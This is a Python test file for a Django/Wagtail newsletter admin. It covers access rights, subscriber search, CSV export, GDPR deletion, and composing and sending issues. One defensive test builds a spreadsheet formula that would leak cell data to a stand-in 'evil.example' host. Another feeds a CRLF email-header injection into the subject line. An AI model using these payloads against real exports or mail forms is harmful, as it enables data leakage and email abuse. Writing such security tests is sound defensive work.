"""Editors run newsletters in the admin: subscribers (search, CSV, GDPR deletion), issues
(compose, preview, test, send or schedule, progress)."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text

from newsdesk.conftest import use_task_backend
from newsdesk.newsletters import issues
from newsdesk.newsletters.models import Delivery, Issue, IssueArticle, Subscriber, Subscription
from newsdesk.newsletters.tests.conftest import confirmed

pytestmark = pytest.mark.django_db

SUBSCRIBERS = "/admin/snippets/newsletters/subscriber/"
ISSUES = "/admin/snippets/newsletters/issue/"


def issue_form(newsletter, subject, articles=(), **extra):
    return nested_form_data(
        {
            "newsletter": newsletter.pk,
            "subject": subject,
            "intro": rich_text("<p>Good morning.</p>"),
            "chosen_articles": inline_formset([{"article": article.pk} for article in articles]),
            "latest_count": extra.get("latest_count", 0),
            "latest_section": "",
        }
    )


@pytest.fixture
def issue(newsletter, article_factory):
    issue = Issue.objects.create(newsletter=newsletter, subject="Monday: the grid holds")
    IssueArticle.objects.create(issue=issue, article=article_factory(title="The grid holds"))
    return issue


def test_it_shows_editors_the_newsletters_and_not_reporters(client, editor, reporter, newsletter):
    client.force_login(editor)
    assert "Newsletters" in client.get("/admin/").content.decode()
    for url in (ISSUES, SUBSCRIBERS, "/admin/snippets/newsletters/newsletter/"):
        assert client.get(url).status_code == 200, url
    client.force_login(reporter)
    for url in (ISSUES, SUBSCRIBERS):
        assert client.get(url).status_code in (302, 403), url


def test_nobody_adds_subscribers_by_hand(client, editor, superuser):
    for user in (editor, superuser):
        client.force_login(user)
        assert client.get(SUBSCRIBERS + "add/").status_code in (302, 403)
        assert SUBSCRIBERS + "add/" not in client.get(SUBSCRIBERS).content.decode()


def test_it_finds_and_filters_subscribers(client, editor, newsletter, weekly):
    confirmed(newsletter, "olena@example.org", "taras@example.com")
    confirmed(weekly, "olena@example.org")
    pending = Subscriber.objects.create(email="pending@example.org")
    Subscription.objects.create(subscriber=pending, newsletter=weekly)
    client.force_login(editor)
    html = client.get(SUBSCRIBERS, {"q": "example.org"}).content.decode()
    assert "olena@example.org" in html and "pending@example.org" in html
    assert "taras@example.com" not in html
    html = client.get(SUBSCRIBERS, {"newsletter": weekly.pk, "status": "confirmed"}).content
    assert b"olena@example.org" in html and b"pending@example.org" not in html


def test_it_exports_subscribers_as_csv(client, editor, newsletter, weekly):
    confirmed(newsletter, "olena@example.org")
    confirmed(weekly, "olena@example.org")
    client.force_login(editor)
    response = client.get(SUBSCRIBERS, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "subscribers" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = rows
    assert row["Email"] == "olena@example.org"
    assert row["Subscriptions"] == "The Explainer: confirmed; The Morning Brief: confirmed"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
    client, editor, newsletter, start
):
    """A reader picks their address and an editor names newsletters: a cell starting like a
    formula is prefixed with ' so a spreadsheet shows it as text (CSV injection)."""
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    newsletter.name = formula
    newsletter.save()
    confirmed(newsletter, f"{start}1+2@example.org", "olena@example.org")
    client.force_login(editor)
    response = client.get(SUBSCRIBERS, {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    emails = sorted(row["Email"] for row in rows)
    assert emails == sorted([f"'{start}1+2@example.org", "olena@example.org"])
    for row in rows:
        assert row["Subscriptions"] == f"'{formula}: confirmed"


def test_it_deletes_a_subscriber_with_everything_about_them(client, editor, newsletter, weekly):
    reader, other = confirmed(newsletter, "erase-me@example.org", "stays@example.org")
    confirmed(weekly, "erase-me@example.org")
    issue = Issue.objects.create(newsletter=newsletter, subject="Sent before", status="sending")
    issues.create_deliveries(issue)
    client.force_login(editor)
    edit = client.post(
        f"{SUBSCRIBERS}edit/{reader.pk}/",
        nested_form_data(
            {
                "email": reader.email,
                "suppressed": "on",
                "suppressed_reason": "request",
                "subscriptions": inline_formset([]),
            }
        ),
    )
    assert edit.status_code == 302
    response = client.post(f"{SUBSCRIBERS}delete/{reader.pk}/")
    assert response.status_code == 302
    assert not Subscriber.objects.filter(pk=reader.pk).exists()
    assert not Subscription.objects.filter(subscriber_id=reader.pk).exists()
    assert not Delivery.objects.filter(subscriber_id=reader.pk).exists()
    assert Delivery.objects.filter(subscriber=other).exists()
    # Not a trace of the address left in any of the app's tables, nor in the admin's history
    # (which keeps who deleted a subscriber, and when).
    assert ModelLogEntry.objects.filter(action="wagtail.delete", object_id=str(reader.pk)).exists()
    with connection.cursor() as cursor:
        for model in (Subscriber, Subscription, Delivery, Issue, ModelLogEntry):
            table = connection.ops.quote_name(model._meta.db_table)
            cursor.execute(f"SELECT * FROM {table}")
            assert "erase-me" not in repr(cursor.fetchall())


def test_editors_compose_an_issue_and_preview_it_as_email_and_text(
    client, editor, newsletter, article_factory
):
    story = article_factory(title="Preview this story")
    client.force_login(editor)
    response = client.post(
        ISSUES + "add/", issue_form(newsletter, "Composed in the admin", [story])
    )
    assert response.status_code == 302
    issue = Issue.objects.get(subject="Composed in the admin")
    assert [link.article_id for link in issue.chosen_articles.all()] == [story.pk]

    preview = f"{ISSUES}preview/{issue.pk}/"
    data = issue_form(newsletter, "Composed in the admin", [story])
    assert client.post(preview, data).json()["is_valid"]
    email = client.get(preview, {"mode": ""}).content.decode()
    assert "<table" in email and "Preview this story" in email
    assert "Unsubscribe" in email and "NEWSDESK-UNSUBSCRIBE" not in email
    text = client.get(preview, {"mode": "text"})
    assert text["Content-Type"].startswith("text/plain")
    assert "Preview this story" in text.content.decode()


def test_it_refuses_line_breaks_in_the_subject(client, editor, newsletter):
    client.force_login(editor)
    response = client.post(ISSUES + "add/", issue_form(newsletter, "Hello\r\nBcc: all@example.org"))
    assert response.status_code == 200
    assert not Issue.objects.exists()


def test_editors_send_a_test_then_send_and_watch_progress(
    client, django_capture_on_commit_callbacks, smtp, editor, issue, newsletter
):
    confirmed(newsletter, "a@example.org", "b@example.org", "c@example.org")
    client.force_login(editor)
    edit = client.get(f"{ISSUES}edit/{issue.pk}/").content.decode()
    assert reverse("newsletters_admin:test", args=[issue.pk]) in edit
    assert reverse("newsletters_admin:send", args=[issue.pk]) in edit

    test_url = reverse("newsletters_admin:test", args=[issue.pk])
    bad = client.post(test_url, {"email": "not an address"})
    assert bad.status_code == 200 and "Please enter a valid email address" in bad.content.decode()
    client.post(test_url, {"email": "editor@example.org"})
    [test] = smtp.wait_for(1)
    assert test.rcpt_tos == ["editor@example.org"] and test.message["Subject"].startswith("[Test]")

    send_url = reverse("newsletters_admin:send", args=[issue.pk])
    page = client.get(send_url).content.decode()
    assert "<strong>3</strong> confirmed subscribers" in page and "The grid holds" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(send_url, {"when": ""})
    progress_url = reverse("newsletters_admin:progress", args=[issue.pk])
    assert response.status_code == 302 and response.url == progress_url
    assert smtp.wait_for(4) and smtp.count == 4
    progress = client.get(progress_url).content.decode()
    assert "Sent: 100%" in progress and 'data-count="sent">3<' in progress
    assert 'http-equiv="refresh"' not in progress  # finished: no more reloading
    # A sent issue cannot be sent again.
    assert client.get(send_url).status_code == 302
    client.post(send_url, {"when": ""})
    assert Delivery.objects.count() == 3


def test_the_progress_page_reloads_while_sending(client, editor, issue, newsletter):
    confirmed(newsletter, "a@example.org", "b@example.org")
    Issue.objects.filter(pk=issue.pk).update(status="sending", started_at=timezone.now())
    issues.create_deliveries(issue)
    client.force_login(editor)
    page = client.get(reverse("newsletters_admin:progress", args=[issue.pk])).content.decode()
    assert 'http-equiv="refresh"' in page and 'data-count="remaining">2<' in page


def test_editors_schedule_an_issue(client, settings, editor, issue):
    use_task_backend(settings, "dummy")
    client.force_login(editor)
    when = timezone.localtime() + timedelta(days=1)
    response = client.post(
        reverse("newsletters_admin:send", args=[issue.pk]),
        {"when": when.strftime("%Y-%m-%dT%H:%M")},
    )
    assert response.status_code == 302
    issue.refresh_from_db()
    assert issue.status == "scheduled"
    assert abs(issue.scheduled_at - when) < timedelta(minutes=1)
    past = client.post(
        reverse("newsletters_admin:send", args=[issue.pk]), {"when": "2020-01-01T07:00"}
    )
    assert "That time has passed" in past.content.decode()
    client.post(reverse("newsletters_admin:send", args=[issue.pk]), {"action": "cancel"})
    issue.refresh_from_db()
    assert issue.status == "draft" and issue.scheduled_at is None


def test_reporters_cannot_send(client, reporter, issue):
    client.force_login(reporter)
    # Wagtail answers a refused admin page with a redirect to the dashboard and a message.
    for name in ("test", "send"):
        response = client.get(reverse(f"newsletters_admin:{name}", args=[issue.pk]))
        assert response.status_code == 302 and response.url == "/admin/"
    response = client.post(reverse("newsletters_admin:send", args=[issue.pk]), {"when": ""})
    assert response.status_code == 302 and response.url == "/admin/"
    assert Issue.objects.get().status == "draft"
